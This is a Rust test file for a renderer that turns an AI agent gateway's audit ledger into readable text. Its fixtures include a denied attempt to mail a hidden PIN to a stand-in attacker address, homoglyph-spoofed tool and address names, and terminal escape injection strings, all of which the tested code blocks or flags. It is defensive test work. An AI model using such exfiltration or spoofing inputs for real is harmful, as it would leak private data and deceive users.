//! Stories as text: what a person sees is compared whole.

#![expect(clippy::unwrap_used, clippy::panic, reason = "a test may panic")]

use std::collections::BTreeSet;
use std::path::Path;
use std::sync::Arc;

use pdp::decision::{Decision, Obligation, Reason};
use pdp::digest::Digest;
use pdp::effect::Effect;
use pdp::label::LabelSet;
use pdp::policy::Rule;
use pdp::principal::Principal;
use pdp::record::{
    Attempt, DecisionNote, Direction, Ending, FrameKind, Intent, Note, RECORD_VERSION, Record, ResultNote, StageTime,
};
use pdp::refusal::{Code, Refusal};
use pep::ports::{Clock, Ledger};
use serde_json::json;

use super::*;
use crate::ledger::{Options, SqliteLedger};

const TRACE: &str = "4bf92f3577b34da6a3ce929d0e0e4736";
const NOON: i64 = 1_795_176_000_000_000;

/// A clock that stands.
#[derive(Debug)]
struct Noon;

impl Clock for Noon {
    fn now_us(&self) -> i64 {
        NOON
    }
}

fn principal() -> Principal {
    Principal {
        agent: "claude".into(),
        teams: Vec::new(),
        user: "alice".into(),
        tenant: "default".into(),
        method: "token".into(),
    }
}

fn labels(names: &[&str]) -> LabelSet {
    names.iter().copied().collect()
}

fn decision(decision: Decision, rule: (&str, &str), held: &[&str]) -> DecisionNote {
    let rules = vec![Rule { id: rule.0.into(), reason: rule.1.into() }];
    let facts = pdp::policy::Facts { labels: labels(held), calls: 3, now_ms: 1, ..Default::default() };
    DecisionNote::of(decision, rules, Vec::new(), &facts)
}

/// An allowed, served call of a tool, `at` microseconds after noon.
fn call(number: u64, at: i64, tool: &str) -> Record {
    let names = ["intake", "classify", "policy", "action", "audit"];
    let stages = names.iter().zip([12, 52, 61, 1350, 1500]);
    Record {
        v: RECORD_VERSION,
        number,
        trace: TRACE.into(),
        span: format!("{number:016x}"),
        parent: None,
        link: None,
        task: "session-1".into(),
        started_us: NOON + at,
        took_us: 1500,
        direction: Direction::ToServer,
        kind: FrameKind::Request,
        protocol: Some("2025-11-25".into()),
        principal: Some(principal().into()),
        client: None,
        server: "office".into(),
        system: None,
        transport: Some("stdio".into()),
        session: Some("ab12cd34ef56".into()),
        request_id: Some(number.to_string()),
        method: Some("tools/call".into()),
        target: Some(tool.into()),
        pin: None,
        effect: None,
        errand: None,
        effects: BTreeSet::from([Effect::Read]),
        arguments_digest: None,
        arguments: Some(json!({"folder": "inbox", "count": 3}).into()),
        snapshot: Digest::of_bytes(b"first law"),
        decision: Some(decision(Decision::allow(), ("mail-read", "Agents may read mail"), &[])),
        credential: None,
        approvals: Vec::new(),
        plan: None,
        labels: labels(&["untrusted"]),
        flow: None,
        stages: stages.map(|(stage, at_us)| StageTime { stage: (*stage).into(), at_us }).collect(),
        attempts: vec![Attempt {
            span: "00f067aa0ba902b7".into(),
            started_us: 70,
            ended_us: 1340,
            address: "office-server".into(),
            status: None,
            fault: None,
        }],
        notes: Vec::new(),
        bytes_in: 120,
        result: Some(ResultNote { bytes: 512, ..ResultNote::default() }),
        ending: Ending::Served,
        refusal: None,
    }
}

fn entry(record: Record) -> Entry {
    Entry::Record(record.into())
}

fn intent(number: u64, at: i64) -> Entry {
    Entry::Intent(Intent {
        arguments_digest: None,
        number,
        trace: TRACE.into(),
        task: "session-1".into(),
        at_us: NOON + at,
        principal: principal().into(),
        server: "office".into(),
        method: "tools/call".into(),
        target: Some("send_mail".into()),
        body: Digest::of_bytes(b"body"),
        snapshot: Digest::of_bytes(b"second law"),
    })
}

fn denied(number: u64, at: i64) -> Record {
    let words = "sending mail is denied after reading untrusted text";
    Record {
        arguments: Some(json!({"to": "eve@evil.example", "text": "pin\u{202e}4321\u{200b}"}).into()),
        effect: None,
        errand: None,
        effects: BTreeSet::from([Effect::Egress, Effect::Write]),
        decision: Some(decision(
            Decision::Deny(Reason::Forbidden),
            ("trifecta", "Egress after reading both untrusted and private data"),
            &["private", "untrusted"],
        )),
        labels: LabelSet::default(),
        stages: Vec::new(),
        attempts: Vec::new(),
        result: None,
        took_us: 88,
        snapshot: Digest::of_bytes(b"second law"),
        ending: Ending::Refused,
        refusal: Some(Refusal::new(Code::Denied, words)),
        ..call(number, at, "send_mail")
    }
}

fn question(number: u64, at: i64) -> Record {
    Record {
        direction: Direction::ToClient,
        method: Some("elicitation/create".into()),
        target: None,
        effect: None,
        errand: None,
        effects: BTreeSet::new(),
        arguments: None,
        decision: None,
        labels: LabelSet::default(),
        stages: Vec::new(),
        attempts: Vec::new(),
        took_us: 40,
        result: None,
        ..call(number, at, "")
    }
}

fn compare(story: &str, want: &str) {
    assert!(story == want, "the story is\n{story}\nand not\n{want}");
    assert!(story.lines().all(|line| line.chars().count() <= 100 && !line.ends_with(' ')));
}

#[test]
fn a_task_is_told_from_its_first_frame_to_its_last() {
    let answer = Record { direction: Direction::ToServer, kind: FrameKind::Response, method: None, ..question(5, 900) };
    let entries = [
        entry(call(3, 0, "read_mail")),
        entry(question(4, 700)),
        entry(answer),
        entry(denied(6, 2_000_000)),
        intent(7, 3_000_000),
    ];
    let want = r#"trace      4bf92f3577b34da6a3ce929d0e0e4736
task       session-1
caller     default/claude for alice, by token
from       2026-11-20 12:00:00.000000 UTC
to         2026-11-20 12:00:03.000000 UTC, 3.000 s in all
snapshot   sha256:3eba3f581b011fda565a4f307887f888daa6678607be9b0e2840fa5d7fa2a5a0 for 3-5
snapshot   sha256:270d72a2b22350fcbab8d1bbbd4af62e864f658a83ee5e7d8439f2d9e08974f1 for 6-7
frames     5: 1 refused, 3 served, 1 without an outcome

#3  12:00:00.000000  -> office tools/call read_mail                                    allow, served
    arguments  {"count": 3, "folder": "inbox"}
    effect     read
    labels     none -> untrusted
    decision   allow
    rule       mail-read: Agents may read mail
    stages     intake 12 us, classify 40 us, policy 9 us, action 1.289 ms, audit 150 us
    upstream   office-server, 1.270 ms, 70 us after arrival
    result     512 bytes
    ending     served after 1.500 ms

    #4  12:00:00.000700  <- office elicitation/create                                         served
        ending     served after 40 us

    #5  12:00:00.000900  -> office response                                                   served
        ending     served after 40 us

#6  12:00:02.000000  -> office tools/call send_mail                                    deny, refused
    arguments  {"text": "pin\u{202e}4321\u{200b}", "to": "eve@evil.example"}
    effect     write, egress
    labels     private, untrusted
    decision   deny: a policy forbids it
    rule       trifecta: Egress after reading both untrusted and private data
    refusal    denied: sending mail is denied after reading untrusted text
    ending     refused after 88 us

#7  12:00:03.000000  -> office tools/call send_mail                                       NO OUTCOME
    intent     on disk at 12:00:03.000000, to send
               sha256:230d8358dc8e8890b4c58deeb62912ee2f20357ae92a5cc861b98e68fe31acb5
    outcome    none is recorded: it is still under way, or the gate stopped first; it may have had
               its effect
"#;
    compare(&tell(&entries, &Telling::default()), want);
}

#[test]
fn everything_a_record_can_hold_is_told() {
    let lost = Record {
        arguments: None,
        arguments_digest: Some(Digest::of_bytes(b"arguments")),
        decision: Some(DecisionNote {
            grants: BTreeSet::from(["security".into()]),
            ..decision(Decision::Allow(BTreeSet::from([Obligation::Quote])), ("mail-send", ""), &["user"])
        }),
        credential: Some("env:OFFICE_TOKEN".into()),
        labels: LabelSet::default(),
        stages: Vec::new(),
        attempts: vec![Attempt {
            span: "00f067aa0ba902b7".into(),
            started_us: 400,
            ended_us: 30_000_400,
            address: "mail.example:443".into(),
            status: Some(504),
            fault: Some("no answer within 30 s\u{7}".into()),
        }],
        notes: vec![Note { at_us: 90, text: "its definition was checked\nanew".into() }],
        result: Some(ResultNote {
            is_error: true,
            error_code: Some(-32603),
            error_message: Some("the server \u{1b}[2Jsaid so".into()),
            bytes: 0,
        }),
        took_us: 30_000_500,
        snapshot: Digest::of_bytes(b"second law"),
        ending: Ending::Indeterminate,
        refusal: Some(Refusal::new(Code::TimedOut, "the server did not answer in time")),
        ..call(7, 0, "send_mail")
    };
    let want = r#"trace      4bf92f3577b34da6a3ce929d0e0e4736
task       session-1
caller     default/claude for alice, by token
from       2026-11-20 12:00:00.000000 UTC
to         2026-11-20 12:00:30.000500 UTC, 30.000 s in all
snapshot   sha256:270d72a2b22350fcbab8d1bbbd4af62e864f658a83ee5e7d8439f2d9e08974f1
frames     1: 1 indeterminate

#7  12:00:00.000000  -> office tools/call send_mail                             allow, indeterminate
    arguments  not recorded, sha256:2507b0c4bbe6a5c0d8dd93f66a1d9d6a9e0d9c2f2a8b0f4f
    effect     read
    labels     user
    decision   allow, and hand text over as quoted evidence
    rule       mail-send
    grants     security
    credential env:OFFICE_TOKEN
    intent     on disk, 300 us after arrival
    upstream   mail.example:443, 30.000 s, 400 us after arrival, HTTP 504, failed: no answer within
               30 s\u{7}
    note       after 90 us: its definition was checked\nanew
    result     0 bytes, a tool error, JSON-RPC error -32603: the server \u{1b}[2Jsaid so
    refusal    timed_out: the server did not answer in time
    ending     indeterminate after 30.000 s: it may have had its effect; look before you repeat it
"#;
    let digest = Digest::of_bytes(b"arguments").to_string();
    let want = want.replace("sha256:2507b0c4bbe6a5c0d8dd93f66a1d9d6a9e0d9c2f2a8b0f4f", &digest);
    compare(&tell(&[intent(7, 300), entry(lost)], &Telling::default()), &want);
}

#[test]
fn each_decision_has_its_words() {
    let words = |given: Decision| {
        let record = Record { decision: Some(decision(given, ("r", ""), &[])), ..call(1, 0, "read_mail") };
        let story = tell(&[entry(record)], &Telling::default());
        story.lines().find_map(|line| line.trim_start().strip_prefix("decision   ").map(str::to_owned)).unwrap()
    };
    assert_eq!(
        words(Decision::Escalate(BTreeSet::from(["owner".into(), "security".into()]))),
        "escalate: it needs owner, security"
    );
    assert_eq!(words(Decision::Deny(Reason::NoPermit)), "deny: no policy permits it");
    let why = Reason::Unjudgeable("`amount` is 1e999".into());
    assert_eq!(
        words(Decision::Deny(why)),
        "deny: an argument has no form that policies could judge: `amount` is 1e999"
    );
    let why = Reason::Fault("overflow".into());
    assert_eq!(words(Decision::Deny(why)), "deny: a policy could not be evaluated: overflow");
}

#[test]
fn a_narrow_terminal_and_another_day_are_respected() {
    let late = Record {
        arguments: Some(json!({"text": "word ".repeat(15)}).into()),
        ..call(2, 86_400_000_000, "a_tool_with_quite_a_long_name_indeed")
    };
    let entries = [entry(call(1, 0, "read_mail")), entry(late)];
    let story = tell(&entries, &Telling { width: 60, ..Telling::default() });
    assert!(story.contains(
        "\n2026-11-21\n\n#2  12:00:00.000000  -> office tools/call\n    a_tool_with_quite_a_long_name_indeed"
    ));
    let long: Vec<&str> = story.lines().filter(|line| line.chars().count() > 60).collect();
    assert!(long.is_empty(), "{long:?}");
    assert!(story.lines().all(|line| !line.ends_with(' ')));
}

#[test]
fn words_that_imitate_others_are_told_to_be_looked_at_twice() {
    let mut record = call(1, 0, "раypal_send");
    record.arguments = Some(json!({ "to": "\nаррӏе@example.net" }).into());
    let story = tell(&[entry(record)], &Telling::default());
    assert!(story.contains("LOOK TWICE: раypal: mixes Latin and Cyrillic letters\n"), "{story}");
    assert!(story.contains("LOOK TWICE: аррӏе: Cyrillic letters that look Latin\n"), "{story}");
    assert!(!tell(&[entry(call(1, 0, "read_mail"))], &Telling::default()).contains("TWICE"));
}

#[test]
fn colours_come_only_when_asked_for() {
    let entries = [entry(call(1, 0, "read_mail")), entry(denied(2, 5000)), intent(3, 9000)];
    let plain = tell(&entries, &Telling::default());
    assert!(!plain.contains('\u{1b}'));
    let coloured = tell(&entries, &Telling { colour: true, ..Telling::default() });
    for painted in
        ["\u{1b}[1m#1\u{1b}[0m", "\u{1b}[32mallow, served\u{1b}[0m", "\u{1b}[31mdeny, refused", "\u{1b}[33mNO OUTCOME"]
    {
        assert!(coloured.contains(painted), "{painted:?}");
    }
    let mut bare = coloured;
    for code in ["\u{1b}[0m", "\u{1b}[1m", "\u{1b}[31m", "\u{1b}[32m", "\u{1b}[33m"] {
        bare = bare.replace(code, "");
    }
    assert_eq!(bare, plain);
}

#[test]
fn as_json_a_story_is_its_entries_canonical() {
    let entries = [intent(1, 0), entry(call(1, 0, "read_mail"))];
    let told = tell(&entries, &Telling { json: true, ..Telling::default() });
    let lines: Vec<&str> = told.lines().collect();
    assert_eq!(lines, entries.each_ref().map(|entry| entry.canonical().unwrap()));
}

fn ledger(path: &Path) {
    let ledger = SqliteLedger::open(path, Options::new(Arc::new(Noon))).unwrap();
    let other = |number, trace: &str, task: &str| {
        entry(Record { trace: trace.into(), task: task.into(), ..call(number, 1000, "read_mail") })
    };
    for entry in [
        intent(1, 0),
        entry(call(1, 0, "send_mail")),
        other(2, "4bf92f0000000000000000000000000a", "weekly\u{202e}report"),
        other(3, "00000000000000000000000000000001", "424242"),
    ] {
        ledger.append(entry).unwrap();
    }
    assert_eq!(ledger.close().lost, 0);
}

#[test]
fn a_story_is_found_by_trace_prefix_task_or_number() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("ledger.db");
    ledger(&path);
    let reader = Reader::open(&path).unwrap();
    let numbers = |id: &str| -> Vec<u64> {
        let entries = find(&reader, id, &Sight::WHOLE).unwrap();
        entries
            .iter()
            .map(|entry| match entry {
                Entry::Intent(intent) => intent.number,
                Entry::Record(record) => record.number,
                Entry::Event(_) | Entry::Said(_) => panic!("the ledger holds none"),
            })
            .collect()
    };
    assert_eq!(numbers(TRACE), [1, 1]);
    assert_eq!(numbers(" 4BF92F35 "), [1, 1]);
    assert_eq!(numbers("2"), [2]);
    assert_eq!(numbers("session-1"), [1, 1]);
    assert_eq!(numbers("424242"), [3], "a task may look like a number");
    assert_eq!(numbers("00000000000000000000000000000001"), [3], "a trace id is no number");
    assert_eq!(numbers("00000000000000000001"), [1, 1]);
    let fault = find(&reader, "4bf92f", &Sight::WHOLE).unwrap_err().to_string();
    assert_eq!(
        fault,
        "more than one trace begins with `4bf92f`: give more digits.\n  4bf92f0000000000000000000000000a\n  \
         4bf92f3577b34da6a3ce929d0e0e4736"
    );
    let fault = find(&reader, "4bf9", &Sight::WHOLE).unwrap_err().to_string();
    assert_eq!(
        fault,
        "the ledger has nothing of `4bf9`: give a trace id (32 hexadecimal digits, or the first 6 or more), a task id, \
         or the number of a record. The latest traces:\n  \
         00000000000000000000000000000001  2026-11-20 12:00:00 UTC  424242, office, default/claude\n  \
         4bf92f0000000000000000000000000a  2026-11-20 12:00:00 UTC  weekly\\u{202e}report, office, default/claude\n  \
         4bf92f3577b34da6a3ce929d0e0e4736  2026-11-20 12:00:00 UTC  session-1, office, default/claude"
    );
}

#[test]
fn an_empty_ledger_says_that_it_is_empty() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("ledger.db");
    drop(SqliteLedger::open(&path, Options::new(Arc::new(Noon))).unwrap());
    let fault = find(&Reader::open(&path).unwrap(), "7", &Sight::WHOLE).unwrap_err().to_string();
    assert!(fault.ends_with("or the number of a record. It holds no trace yet."), "{fault}");
}
